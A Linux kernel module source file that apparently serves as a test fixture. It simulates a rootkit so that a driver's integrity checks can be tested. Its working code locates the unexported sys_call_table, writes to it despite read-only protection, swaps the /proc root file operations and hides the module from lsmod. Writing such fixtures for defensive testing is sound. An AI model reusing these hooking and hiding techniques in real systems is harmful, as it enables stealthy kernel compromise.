// SPDX-License-Identifier: GPL-2.0
/*
 * rootkit_sim.ko - TEST ONLY.  Does to the kernel what a kernel rootkit
 * does, so that the QEMU test (test/qemu/driver-integrity.test.ts) can check
 * the integrity checks of vigil.ko.  Load it only in a throw-away test
 * guest: it has no exit function and cannot be unloaded.
 *
 * On load it
 *  1. points sys_call_table[__NR_tuxcall] (an unimplemented call) at its own
 *     function, writing through a vmap() alias of the table's page because
 *     the table is read-only (the function returns -ENOSYS like the
 *     original, so nothing changes for a caller);
 *  2. gives the /proc root inode its own copy of the file operations whose
 *     iterate_shared calls the original (/proc still lists the same);
 *  3. leaves the kernel's module list (lsmod, /proc/modules, rmmod do not
 *     find it) but keeps its kobject (/sys/module/rootkit_sim).
 * Each step is logged ("rootkit_sim: ...") and independent of the others.
 *
 * sys_call_table is not exported: its address comes from register_kprobe(),
 * which looks the name up with kallsyms and stores it in kp.addr before it
 * refuses a probe on data.
 */
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/rculist.h>
#include <linux/namei.h>
#include <linux/fs.h>
#include <linux/magic.h>
#include <linux/errno.h>
#include <asm/unistd.h>

#ifdef __NR_tuxcall
#define RK_NR	__NR_tuxcall
#else
#define RK_NR	__NR_syscalls - 1
#endif

static struct file_operations rk_proc_fops;
static int (*rk_orig_iterate)(struct file *, struct dir_context *);

static long rk_sys_hook(const struct pt_regs *regs)
{
	return -ENOSYS;
}

static int rk_iterate_shared(struct file *file, struct dir_context *ctx)
{
	return rk_orig_iterate(file, ctx);
}

static unsigned long rk_ksym(const char *name)
{
	struct kprobe kp = {
		.symbol_name = name,
		.flags = KPROBE_FLAG_DISABLED,
	};

	if (!register_kprobe(&kp))
		unregister_kprobe(&kp);
	return (unsigned long)kp.addr;
}

static int rk_patch_syscall(void)
{
	unsigned long *table = (unsigned long *)rk_ksym("sys_call_table");
	unsigned long *slot;
	struct page *page;
	void *alias;

	if (!table)
		return -ENOENT;
	slot = &table[RK_NR];
	page = virt_to_page(slot);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(slot)),
		   (unsigned long)rk_sys_hook);
	vunmap(alias);
	return READ_ONCE(*slot) == (unsigned long)rk_sys_hook ? 0 : -EIO;
}

static int rk_hook_proc(void)
{
	struct inode *inode;
	struct path path;
	int ret = -ENOENT;

	if (kern_path("/proc", LOOKUP_FOLLOW, &path))
		return ret;
	if (path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC) {
		inode = d_inode(path.dentry->d_sb->s_root);
		rk_orig_iterate = inode->i_fop->iterate_shared;
		if (rk_orig_iterate) {
			rk_proc_fops = *inode->i_fop;
			rk_proc_fops.iterate_shared = rk_iterate_shared;
			WRITE_ONCE(inode->i_fop, &rk_proc_fops);
			ret = 0;
		}
	}
	path_put(&path);
	return ret;
}

static int __init rk_init(void)
{
	pr_info("rootkit_sim: TEST ONLY module, sys_call_table[%d] hook: %d\n",
		RK_NR, rk_patch_syscall());
	pr_info("rootkit_sim: /proc root file operations hook: %d\n",
		rk_hook_proc());
	/* list_del_rcu: readers walking the list under RCU stay safe. */
	list_del_rcu(&THIS_MODULE->list);
	pr_info("rootkit_sim: hidden from the module list\n");
	return 0;
}

module_init(rk_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("TEST ONLY: simulates a kernel rootkit for vigil's integrity test");
